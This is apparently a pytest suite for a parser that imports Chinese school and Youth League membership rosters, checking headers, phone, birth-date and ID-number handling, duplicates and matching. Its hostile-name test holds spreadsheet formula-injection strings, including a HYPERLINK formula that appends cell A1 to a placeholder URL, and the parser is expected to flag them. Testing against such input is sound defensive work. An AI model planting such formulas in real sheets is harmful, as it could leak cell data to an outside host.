"""Rosters: headers, lines without a header, values, doubles, fates."""

from __future__ import annotations

import json
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.member_status import MemberStatus, member_status
from domain.roster import (
    Fate,
    FateReason,
    KnownPerson,
    LineProblem,
    Roster,
    RosterLine,
    SheetRow,
    SkipReason,
    Standing,
    as_json,
    fate,
    read_roster,
)

AT = date(2026, 11, 22)


def roster(text: str, separator: str = "|") -> Roster:
    lines = text.split("\n")
    return read_roster(
        [SheetRow(n, tuple(line.split(separator))) for n, line in enumerate(lines, 1)], AT
    )


def one(header: str, row: str) -> RosterLine:
    found = roster(f"{header}\n{row}").lines
    assert len(found) == 1
    return found[0]


def skipped(read: Roster) -> dict[int, SkipReason]:
    return {row.line: row.reason for row in read.skipped}


# ------------------------------------------------------------------ tables


def test_a_sheet_of_a_school() -> None:
    read = roster(
        "XX中学高一（3）班团员名单||||||\n"
        "||||||\n"
        "序号|姓 名*|性别|学号（必填）|出 生 年 月|政治面貌|所在团支部\n"
        "1|张三|男|20230101|2008-03-05|共青团员|高一3班\n"
        "2|李  四|女|20230102.0|2008年3月5日|群众|高一3班\n"
        "|||||共青团员|高一3班\n"
        "3|阿依古丽.买买提|女|20230103|20080305|入团积极分子|\n"
        "合计|3人|||||\n"
        "注：以上情况属实。||||||\n"
        "填表人：王老师|||||填表日期：2026年9月|"
    )
    assert read.header_line == 3
    assert read.ignored_columns == ("性别",)
    assert [(x.line, x.name, x.number, x.unit_name, x.problem) for x in read.lines] == [
        (4, "张三", "20230101", "高一3班", None),
        (5, "李四", "20230102", "高一3班", None),
        (7, "阿依古丽·买买提", "20230103", None, None),
    ]
    assert {x.birth_date for x in read.lines} == {date(2008, 3, 5)}
    assert [x.member_status for x in read.lines] == [
        MemberStatus.LEAGUE_MEMBER,
        MemberStatus.YOUTH,
        MemberStatus.ACTIVIST,
    ]
    assert skipped(read) == {
        1: SkipReason.TITLE,
        2: SkipReason.BLANK,
        3: SkipReason.HEADER,
        6: SkipReason.NOTE,
        8: SkipReason.NOTE,
        9: SkipReason.NOTE,
        10: SkipReason.NOTE,
    }


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("学号", "number"),
        ("工号", "number"),
        ("编号", "number"),
        ("团员编号", "number"),
        ("发展团员编号", "number"),
        ("Student ID", "number"),
        ("student_id", "number"),
        ("Number", "number"),
        ("手机", "phone"),
        ("手机号", "phone"),
        ("本人手机号码*", "phone"),
        ("联系电话", "phone"),
        ("联系方式（手机）", "phone"),
        ("phone", "phone"),
        ("出生日期", "birth_date"),
        ("生日", "birth_date"),
        ("出 生 年 月", "birth_date"),
        ("Birth Date", "birth_date"),
        ("出生日期(YYYY-MM-DD)", "birth_date"),
        ("政治面貌", "member_status"),
        ("身份", "member_status"),
        ("member status", "member_status"),
        ("组织", "unit_name"),
        ("支部", "unit_name"),
        ("所在团支部", "unit_name"),
        ("班级名称", "unit_name"),
        ("unit", "unit_name"),
        ("Branch", "unit_name"),
        ("身份证号", "id_number"),
        ("身份证件号码", "id_number"),
    ],
)
@pytest.mark.parametrize(
    "name_header", ["姓名", "名字", "Name", "学生姓名", "姓　名：", "团员姓名"]
)
def test_header_words(name_header: str, header: str, field: str) -> None:
    value = {
        "number": "S001",
        "phone": "13800000000",
        "birth_date": "2008-03-05",
        "member_status": "团员",
        "unit_name": "高一3班",
        "id_number": "11010119900307803X",
    }[field]
    line = one(f"{header}|{name_header}", f"{value}|张三")
    assert (line.name, line.problem) == ("张三", None)
    assert getattr(line, field) is not None


@pytest.mark.parametrize(
    "header",
    [
        "角色", "role", "is_admin", "权限", "职务", "家长电话", "父亲姓名", "紧急联系人电话",
        "入团日期", "班主任", "QQ号码", "家庭困难", "健康状况", "minutes", "branch_id", "密码",
    ],
)  # fmt: skip
def test_other_columns_are_ignored_and_named(header: str) -> None:
    read = roster(f"姓名|学号|{header}\n张三|1001|officer")
    assert read.ignored_columns == (header,)
    assert "officer" not in repr(read.lines)
    assert read.lines[0].problem is None


def test_the_better_of_two_columns_wins() -> None:
    read = roster("发展团员编号|姓名|联系电话|学号|手机号\n2026|张三|010-1|1001|13800000000")
    assert (read.lines[0].number, read.lines[0].phone) == ("1001", "13800000000")
    assert read.ignored_columns == ("发展团员编号", "联系电话")


def test_two_lists_side_by_side_and_a_repeated_header() -> None:
    read = roster(
        "序号|姓名|学号||序号|姓名|学号\n1|张三|1001||3|王五|1003\n2|李四|1002|||\n"
        "高一4班名单\n学号|姓名\n2001|赵六"
    )
    assert [(x.line, x.name, x.number) for x in read.lines] == [
        (2, "张三", "1001"), (2, "王五", "1003"), (3, "李四", "1002"), (6, "赵六", "2001"),
    ]  # fmt: skip


def test_a_row_that_slipped_asks() -> None:
    line = one("姓名|学号|手机", "张三|13800000000")
    assert line.problem is LineProblem.NOT_UNDERSTOOD


def test_missing_name_is_refused() -> None:
    assert one("姓名|学号", "|1001").problem is LineProblem.NO_NAME


@pytest.mark.parametrize("header", ["姓名 学号", "name number", ""])
def test_names_keep_their_spaces_when_the_text_was_cut_at_spaces(header: str) -> None:
    text = f"{header}\n1. 王 明 1001\nJohn Smith 1002"
    lines = enumerate(text.split("\n"), 1)
    rows = [SheetRow(number, tuple(line.split()), at_spaces=True) for number, line in lines]
    people = [(x.name, x.number, x.problem) for x in read_roster(rows, AT).lines]
    assert people == [("王明", "1001", None), ("John Smith", "1002", None)]


def test_a_cell_beyond_the_header_moves_nothing() -> None:
    line = one("序号|姓名|学号", "1|张三|1001|备注")
    assert (line.name, line.number) == ("张三", "1001")
    plain = one("学号|姓名", "1|张三|x")
    assert (plain.name, plain.number) == ("张三", "1")
    typed = one("姓名|学号", "1、|张三|1001")
    assert (typed.name, typed.number) == ("张三", "1001")


def test_commas_and_cells_separate_people() -> None:
    assert roster("Li Lei, Jim Green").lines[0].problem is LineProblem.NOT_UNDERSTOOD
    assert roster("Anna|Bob").lines[0].problem is LineProblem.NOT_UNDERSTOOD


def test_a_line_that_only_names_a_unit_is_a_note() -> None:
    read = roster("班级：高一3班\n1. 张三✅\n2. 李四")
    assert [x.name for x in read.lines] == ["张三", "李四"]
    assert skipped(read) == {1: SkipReason.NOTE}


# ------------------------------------------------------------------ without a header


@pytest.mark.parametrize(
    "text",
    [
        "张三",
        "1. 张三",
        "1、张三",
        "①张三",
        "（1）张三",
        "1张三",
        "张三 男",
        "姓名：张三",
        "1）张 三",
    ],
)
def test_a_name_alone(text: str) -> None:
    line = roster(text).lines[0]
    assert (line.name, line.number, line.problem) == ("张三", None, None)


@pytest.mark.parametrize(
    "text",
    [
        "1. 张三 20230101 13800000000",
        "张三，20230101，13800000000",
        "13800000000 张三 20230101",
        "张三20230101 +8613800000000",
        "张三（20230101），13800000000",
        "姓名：张三 学号：20230101 手机: 13800000000",
        "１．张三　２０２３０１０１　１３８００００００００",
        "张三|20230101|13800000000",
    ],
)
def test_shapes(text: str) -> None:
    line = roster(text).lines[0]
    found = (line.name, line.number, line.phone, line.problem)
    assert found == ("张三", "20230101", "13800000000", None)


def test_more_shapes() -> None:
    line = roster("高一3班 张三 20230101 2008/3/5 团员 11010119900307803X", " ").lines[0]
    assert (line.unit_name, line.member_status) == ("高一3班", MemberStatus.LEAGUE_MEMBER)
    assert line.birth_date == date(2008, 3, 5)
    assert line.problem is LineProblem.ID_NUMBER_DISAGREES


def test_a_chain_of_a_group_chat() -> None:
    read = roster(
        "#接龙\n高一3班统计一下\n例 姓名 学号\n\n1. 张三 20230101\n2. John Smith\n3. 李四 请假"
    )
    assert [(x.line, x.name, x.problem) for x in read.lines] == [
        (5, "张三", None),
        (6, "John Smith", None),
        (7, "李四", LineProblem.NOT_UNDERSTOOD),
    ]
    assert read.lines[2].not_understood == ("请假",)
    assert skipped(read) == {
        1: SkipReason.TITLE, 2: SkipReason.NOTE, 3: SkipReason.NOTE, 4: SkipReason.BLANK,
    }  # fmt: skip


def test_several_people_in_one_line() -> None:
    assert [x.name for x in roster("张三、李四、王五").lines] == ["张三", "李四", "王五"]
    assert [x.name for x in roster("张三 班长").lines] == ["张三"]


def test_prose_asks() -> None:
    line = roster("今天下午三点大家一起来学校开会").lines[0]
    assert line.problem is LineProblem.NAME_UNUSUAL


# ------------------------------------------------------------------ values


@pytest.mark.parametrize(
    ("text", "phone"),
    [
        ("13800000000", "13800000000"),
        ("+86 138-0000-0000", "13800000000"),
        ("0086 13800000000", "13800000000"),
        ("１３８００００００００", "13800000000"),
        ("'13800000000", "13800000000"),
        ("13800000000.0", "13800000000"),
        ("12800000000", None),
        ("1380000000", None),
        ("138000000000", None),
        ("010-12345678", None),
        ("13800000000/13900000000", None),
        ("+1 13800000000", None),
        ("١٣٨٠٠٠٠٠٠٠٠", None),
        ("-13800000000", "13800000000"),
    ],
)
def test_phone(text: str, phone: str | None) -> None:
    line = one("姓名|手机", f"张三|{text}")
    assert line.phone == phone
    assert line.problem is (None if phone else LineProblem.PHONE_UNREADABLE)


@pytest.mark.parametrize("text", ["1.38E+10", "1.38e10"])
def test_excel_ate_the_phone(text: str) -> None:
    assert one("姓名|手机", f"张三|{text}").problem is LineProblem.DIGITS_LOST


def test_excel_ate_the_number() -> None:
    assert one("姓名|学号", "张三|2.02301E+15").problem is LineProblem.DIGITS_LOST
    assert one("姓名|学号", "张三|2023E01").number == "2023E01"


@pytest.mark.parametrize(
    "text",
    [
        "2008-03-05", "2008-3-5", "2008/3/5", "2008.3.5", "2008年3月5日", "2008 年 3 月 5 日",
        "20080305", "２００８－０３－０５", "2008-03-05 00:00:00", "2008年03月05号", "20080305.0",
    ],
)  # fmt: skip
def test_birth_date(text: str) -> None:
    line = one("姓名|出生日期", f"张三|{text}")
    assert (line.birth_date, line.problem) == (date(2008, 3, 5), None)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("2008.3", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008年3月", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008-03", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("200803", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008-13-01", LineProblem.BIRTH_DATE_UNREADABLE),
        ("2007-02-29", LineProblem.BIRTH_DATE_UNREADABLE),
        ("3/5/2008", LineProblem.BIRTH_DATE_UNREADABLE),
        ("08.3.5", LineProblem.BIRTH_DATE_UNREADABLE),
        ("39512", LineProblem.BIRTH_DATE_UNREADABLE),
        ("0000-00-00", LineProblem.BIRTH_DATE_UNREADABLE),
        ("2026-11-23", LineProblem.BIRTH_DATE_IN_FUTURE),
        ("1905-01-01", LineProblem.BIRTH_DATE_TOO_OLD),
        ("2012-11-23", LineProblem.UNDER_14),
        ("2026-11-22", LineProblem.UNDER_14),
    ],
)
def test_birth_date_problems(text: str, problem: LineProblem) -> None:
    assert one("姓名|出生日期", f"张三|{text}").problem is problem


def test_fourteen_on_the_day_is_not_under_14() -> None:
    assert one("姓名|出生日期", "张三|2012-11-22").problem is None


def test_id_number() -> None:
    good = one("姓名|身份证号", "张三|11010119900307803x")
    assert (good.id_number, good.problem) == ("11010119900307803X", None)
    for bad in ("110101199003078031", "11010119901307803X", "1101011990030780", "110101900307803"):
        line = one("姓名|身份证号", f"张三|{bad}")
        assert (line.id_number, line.problem) == (None, LineProblem.ID_NUMBER_UNREADABLE)
    lost = one("姓名|身份证号", "张三|1.10101E+17")
    assert lost.problem is LineProblem.DIGITS_LOST


def test_id_number_and_birth_date() -> None:
    header = "姓名|出生日期|身份证号"
    assert one(header, "张三|1990-03-07|11010119900307803X").problem is None
    other = one(header, "张三|1990-03-08|11010119900307803X")
    assert other.problem is LineProblem.ID_NUMBER_DISAGREES
    month = one(header, "张三|1990.3|11010119900307803X")
    assert (month.birth_date, month.problem) == (date(1990, 3, 7), None)
    year = one(header, "张三|1991|11010119900307803X")
    assert year.problem is LineProblem.ID_NUMBER_DISAGREES


@pytest.mark.parametrize(
    ("word", "status"),
    [
        ("共青团员", MemberStatus.LEAGUE_MEMBER),
        ("团员", MemberStatus.LEAGUE_MEMBER),
        ("入团积极分子", MemberStatus.ACTIVIST),
        ("积极分子", MemberStatus.ACTIVIST),
        ("入团申请人", MemberStatus.APPLICANT),
        ("群众", MemberStatus.YOUTH),
        ("青年", MemberStatus.YOUTH),
        ("中共党员", MemberStatus.PARTY_MEMBER),
        ("中共预备党员", MemberStatus.PARTY_MEMBER),
        ("少先队员", MemberStatus.PIONEER),
        ("League Member", MemberStatus.LEAGUE_MEMBER),
        ("party_member", MemberStatus.PARTY_MEMBER),
        ("入党积极分子", None),
        ("officer", None),
    ],
)
def test_member_status(word: str, status: MemberStatus | None) -> None:
    assert member_status(word) is status
    line = one("姓名|政治面貌", f"张三|{word}")
    assert line.member_status is status
    assert line.problem is (None if status else LineProblem.MEMBER_STATUS_UNKNOWN)


def test_every_member_status_reads_its_own_value() -> None:
    assert [member_status(status.value) for status in MemberStatus] == list(MemberStatus)


def test_unit_by_name_or_code() -> None:
    assert one("姓名|班级", "张三|高一3班").unit == "高一3班"
    coded = one("姓名|unit", "张三|B-01")
    assert (coded.unit_code, coded.unit_name) == ("B-01", None)
    both = one("姓名|支部|支部代码", "张三|高一3班|B01")
    assert (both.unit_code, both.unit_name, both.unit) == ("B01", "高一3班", "B01")
    assert one("姓名|班级", "张三|" + "班" * 61).problem is LineProblem.UNIT_UNREADABLE


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("管理员", LineProblem.NAME_LOOKS_OFFICIAL),
        ("a\x00b", LineProblem.NAME_UNPRINTABLE),
        ("=1+1", LineProblem.NAME_WITHOUT_LETTER),
        ("王" * 41, LineProblem.NAME_TOO_LONG),
        ('=HYPERLINK("http://x/"&A1,"ok")', LineProblem.NAME_UNUSUAL),
        ("@SUM(A1)", LineProblem.NAME_UNUSUAL),
        ("＝cmd", LineProblem.NAME_UNUSUAL),
    ],
)
def test_hostile_names(name: str, problem: LineProblem) -> None:
    assert one("姓名|学号", f"{name}|1001").problem is problem


# ------------------------------------------------------------------ doubles


def test_doubles_ask() -> None:
    read = roster(
        "姓名|学号|班级\n张三|a1|\n李四|A1|\n王五|2|\n王五|3|\n赵六||\n赵六|4|\n孙七||一班\n孙七||二班"
    )
    assert [x.problem for x in read.lines] == [
        LineProblem.DUPLICATE_NUMBER, LineProblem.DUPLICATE_NUMBER, None, None,
        LineProblem.SAME_NAME_TWICE, LineProblem.SAME_NAME_TWICE, None, None,
    ]  # fmt: skip


def test_a_wrong_line_stays_wrong_though_it_is_double() -> None:
    read = roster("姓名|学号|手机\n张三|1|123\n李四|1|")
    assert [x.problem for x in read.lines] == [
        LineProblem.PHONE_UNREADABLE,
        LineProblem.DUPLICATE_NUMBER,
    ]


# ------------------------------------------------------------------ fates

LINE = RosterLine(2, name="张三", number="1001")
BARE = RosterLine(2, name="张三")


@pytest.mark.parametrize(
    ("line", "known", "expected", "reason"),
    [
        (LINE, (), Fate.NEW, None),
        (LINE, (KnownPerson(7, "张三", "1001"),), Fate.SAME, None),
        (LINE, (KnownPerson(7, "李四", "1001"),), Fate.ASK, FateReason.NUMBER_OF_ANOTHER),
        (LINE, (KnownPerson(7, "张三", "1002"),), Fate.NEW, None),
        (LINE, (KnownPerson(7, "张三"),), Fate.ASK, FateReason.SAME_NAME),
        (
            LINE,
            (KnownPerson(7, "张三"), KnownPerson(8, "张三")),
            Fate.ASK,
            FateReason.SEVERAL_MATCH,
        ),
        (LINE, (KnownPerson(7, "张三", phone_matches=True),), Fate.CHANGE, None),
        (
            LINE,
            (KnownPerson(7, "李四", phone_matches=True),),
            Fate.ASK,
            FateReason.PHONE_OF_ANOTHER,
        ),
        (
            LINE,
            (KnownPerson(7, "张三", "1002", phone_matches=True),),
            Fate.ASK,
            FateReason.OTHER_NUMBER,
        ),
        (LINE, (KnownPerson(7, "张三", "1001", phone_matches=False),), Fate.CHANGE, None),
        (
            LINE,
            (KnownPerson(7, "张三", "1001", Standing.ACTIVE, phone_matches=False),),
            Fate.ASK,
            FateReason.HAS_ACCOUNT,
        ),
        (BARE, (KnownPerson(7, "张三", "1001"),), Fate.SAME, None),
        (
            BARE,
            (KnownPerson(7, "张三"), KnownPerson(8, "张三")),
            Fate.ASK,
            FateReason.SEVERAL_MATCH,
        ),
        (
            RosterLine(2, name="张三", number="1001", unit_name="一班"),
            (KnownPerson(7, "张三", "1001", unit="二班"),),
            Fate.ASK,
            FateReason.OTHER_UNIT,
        ),
        (
            RosterLine(2, name="张三", number="1001", phone="13800000000"),
            (KnownPerson(7, "张三", "1001"),),
            Fate.CHANGE,
            None,
        ),
        (
            RosterLine(2, name="张三", member_status=MemberStatus.YOUTH),
            (KnownPerson(7, "张三"),),
            Fate.ASK,
            FateReason.SAME_NAME,
        ),
        (RosterLine(2, problem=LineProblem.NO_NAME), (), Fate.REFUSED, LineProblem.NO_NAME),
        (RosterLine(2, problem=LineProblem.UNDER_14), (), Fate.ASK, LineProblem.UNDER_14),
    ],
)
def test_fate(
    line: RosterLine,
    known: tuple[KnownPerson, ...],
    expected: Fate,
    reason: LineProblem | FateReason | None,
) -> None:
    judged = fate(line, known)
    assert (judged.fate, judged.reason) == (expected, reason)


def test_json_masks_the_id_number_and_leaves_out_what_is_missing() -> None:
    line = one(
        "姓名|学号|手机|出生日期|政治面貌|班级|身份证号",
        "张三|1001|13800000000|1990-03-07|团员|一班|11010119900307803X",
    )
    assert as_json(line, Fate.NEW, None) == {
        "line": 2,
        "fields": {
            "name": "张三",
            "number": "1001",
            "phone": "13800000000",
            "birth_date": "1990-03-07",
            "member_status": "league_member",
            "unit": "一班",
            "id_number": "**************803X",
        },
        "fate": "new",
        "reason": None,
    }
    assert as_json(BARE, Fate.ASK, FateReason.SAME_NAME) == {
        "line": 2, "fields": {"name": "张三"}, "fate": "ask", "reason": "same_name",
    }  # fmt: skip


# ------------------------------------------------------------------ whatever comes

ANYTHING = st.text(st.characters(exclude_categories=()), max_size=30) | st.sampled_from(
    [
        "姓名",
        "学号",
        "手机",
        "出生日期",
        "身份证号",
        "张三",
        "1.",
        "2008.3",
        "#接龙",
        "姓名:",
        "name",
        "序号",
    ]
)


@given(st.lists(st.lists(ANYTHING, max_size=6), max_size=12))
def test_never_raises_and_every_row_is_accounted_for(cells: list[list[str]]) -> None:
    rows = [SheetRow(n, tuple(row)) for n, row in enumerate(cells, 1)]
    read = read_roster(rows, AT)
    seen = {line.line for line in read.lines} | {row.line for row in read.skipped}
    assert seen == {row.line for row in rows}
    for line in read.lines:
        judged = fate(line, ())
        json.dumps(as_json(line, judged.fate, judged.reason), ensure_ascii=False).encode("utf-8")
        assert (judged.fate is Fate.NEW) == (line.problem is None)
        assert line.name is not None or line.problem is not None


@pytest.mark.parametrize(
    "cell",
    [
        "(" + "1" * 5_000,
        "1" * 5_000,
        "王" * 30_000,
        "(" * 3_000 + ")" * 3_000,
        "1." * 3_000,
        ": " * 9_000,
    ],
)
def test_long_cells_take_no_time(cell: str) -> None:
    read = read_roster([SheetRow(n, (cell, cell)) for n in range(1, 100)], AT)
    assert len(read.lines) + len(read.skipped) == 99
    table = read_roster([SheetRow(1, ("姓名", cell)), SheetRow(2, (cell, cell))], AT)
    assert len(table.lines) + len(table.skipped) == 2
